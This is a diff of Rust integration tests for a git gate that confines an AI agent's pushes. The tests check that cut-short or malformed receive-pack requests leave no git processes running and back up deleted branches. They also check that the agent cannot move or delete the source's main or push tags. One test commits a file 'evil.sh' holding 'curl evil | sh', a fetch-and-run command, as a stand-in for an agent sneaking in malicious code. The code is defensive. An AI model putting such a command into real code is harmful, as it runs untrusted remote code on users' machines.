@@ -220,9 +220,9 @@ async fn a_push_lands_in_the_mirror_and_never_on_the_remote() {
         ],
     );
     assert!(
-        backups
-            .lines()
-            .any(|l| l.starts_with("refs/terok/backup/heads/agent/fix/") && l.ends_with(&pushed)),
+        backups.lines().any(|l| l.starts_with(BACKUP_PREFIX)
+            && l.contains("/refs/heads/agent/fix ")
+            && l.ends_with(&pushed)),
         "{backups}"
     );
 
@@ -363,4 +363,155 @@ async fn requests_without_a_valid_token_or_route_are_refused() {
     });
     assert_eq!(status, "403", "task A's token on task B's socket: {answer}");
     assert!(answer.contains("another task"), "{answer}");
+}
+
+/// git processes (of any kind) whose environment names `dir` (the gate's `GIT_PROJECT_ROOT`).
+fn git_processes_in(dir: &Path) -> Vec<String> {
+    let needle = dir.to_string_lossy().into_owned();
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
+            continue;
+        };
+        let environ = std::fs::read(entry.path().join("environ")).unwrap_or_default();
+        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
+        if text.contains("git") && String::from_utf8_lossy(&environ).contains(&needle) {
+            found.push(text);
+        }
+    }
+    found
+}
+
+/// A pkt-line of git's protocol.
+fn pkt(line: &str) -> String {
+    format!("{:04x}{line}", line.len() + 4)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_push_cut_short_is_still_backed_up_and_leaves_no_git_behind() {
+    let f = Fixture::new().await;
+    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
+    let mirror = f.mirrors.repo_dir(&f.name);
+    let main = f.tip(&mirror, "refs/heads/main").unwrap();
+    // A branch of the agent's, then a push that deletes it and breaks off: the delete command
+    // and a flush, then junk, and the connection closed without the body's end.
+    f.git(Some(&mirror), &["update-ref", "refs/heads/victim", &main]);
+    let zero = "0".repeat(40);
+    let commands = format!(
+        "{}0000",
+        pkt(&format!(
+            "{main} {zero} refs/heads/victim\0report-status delete-refs\n"
+        ))
+    );
+    let head = format!(
+        "POST /{}.git/git-receive-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
+         Content-Type: application/x-git-receive-pack-request\r\n\
+         Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{commands}\r\n",
+        f.name,
+        basic(&token),
+        commands.len()
+    );
+    tokio::task::block_in_place(|| {
+        let mut stream = TcpStream::connect(f.addr).unwrap();
+        stream.write_all(head.as_bytes()).unwrap();
+        let junk = vec![b'x'; 1 << 16];
+        let _ = stream.write_all(format!("{:x}\r\n", junk.len()).as_bytes());
+        let _ = stream.write_all(&junk);
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        drop(stream);
+    });
+    // The same with a Content-Length longer than the body (git was once told the length and
+    // waited for the rest forever, spinning).
+    let truncated = format!(
+        "POST /{}.git/git-receive-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
+         Content-Type: application/x-git-receive-pack-request\r\nContent-Length: 100000\r\n\r\n{}",
+        f.name,
+        basic(&token),
+        pkt(&format!("{main} {main} refs/heads/other\0report-status\n"))
+    );
+    tokio::task::block_in_place(|| {
+        let mut stream = TcpStream::connect(f.addr).unwrap();
+        stream.write_all(truncated.as_bytes()).unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(300));
+        drop(stream);
+    });
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    let root = f.mirrors.root().to_path_buf();
+    let mut left = git_processes_in(&root);
+    while !left.is_empty() && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(100));
+        left = git_processes_in(&root);
+    }
+    assert!(left.is_empty(), "git left running: {left:?}");
+    let backups = f.git(
+        Some(&mirror),
+        &[
+            "for-each-ref",
+            "--format=%(refname) %(objectname)",
+            BACKUP_PREFIX,
+        ],
+    );
+    if f.tip(&mirror, "refs/heads/victim").is_none() {
+        assert!(
+            backups
+                .lines()
+                .any(|l| l.contains("/refs/heads/victim ") && l.ends_with(&main)),
+            "the deleted branch is backed up: {backups}"
+        );
+        assert!(
+            f.mirrors
+                .pushes(&f.name)
+                .iter()
+                .any(|p| p.reference == "refs/heads/victim" && p.new.is_none()),
+            "the deletion is logged"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_cannot_move_the_sources_branches_or_push_tags() {
+    let f = Fixture::new().await;
+    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
+    let mirror = f.mirrors.repo_dir(&f.name);
+    let main = f.tip(&mirror, "refs/heads/main").unwrap();
+    let work = f.dir.path().join("work");
+    let url = f.url(&token, &f.name);
+    let (moved, deleted, tagged, own) = tokio::task::block_in_place(|| {
+        f.git(None, &["clone", "--quiet", &url, &work.to_string_lossy()]);
+        std::fs::write(work.join("evil.sh"), "curl evil | sh\n").unwrap();
+        f.git(Some(&work), &["add", "."]);
+        f.git(Some(&work), &["commit", "--quiet", "-m", "innocent"]);
+        f.git(Some(&work), &["tag", "-a", "-m", "release", "v9.9.9"]);
+        let moved = f.git_output(Some(&work), &["push", "--force", "origin", "HEAD:main"]);
+        let deleted = f.git_output(Some(&work), &["push", "origin", ":main"]);
+        let tagged = f.git_output(Some(&work), &["push", "origin", "v9.9.9"]);
+        let own = f.git_output(Some(&work), &["push", "origin", "HEAD:agent/own"]);
+        (moved, deleted, tagged, own)
+    });
+    assert!(!moved.status.success(), "the source's main moved");
+    assert!(!deleted.status.success(), "the source's main deleted");
+    assert!(!tagged.status.success(), "a tag pushed");
+    assert!(
+        own.status.success(),
+        "{}",
+        String::from_utf8_lossy(&own.stderr)
+    );
+    assert_eq!(
+        f.tip(&mirror, "refs/heads/main").as_deref(),
+        Some(main.as_str())
+    );
+    assert_eq!(f.tip(&mirror, "refs/tags/v9.9.9"), None);
+    // The review compares with the source's main, which the agent could not move.
+    let diff = f.mirrors.diff(&f.name, "agent/own").await.unwrap();
+    assert!(diff.contains("evil.sh"), "{diff}");
+    // The dumb protocol's ref list (every ref, hidden ones too) is not served.
+    let (status, answer) = tokio::task::block_in_place(|| {
+        f.http(&format!(
+            "GET /{}.git/info/refs HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
+             Connection: close\r\n\r\n",
+            f.name,
+            basic(&token)
+        ))
+    });
+    assert_eq!(status, 403, "{answer}");
 }
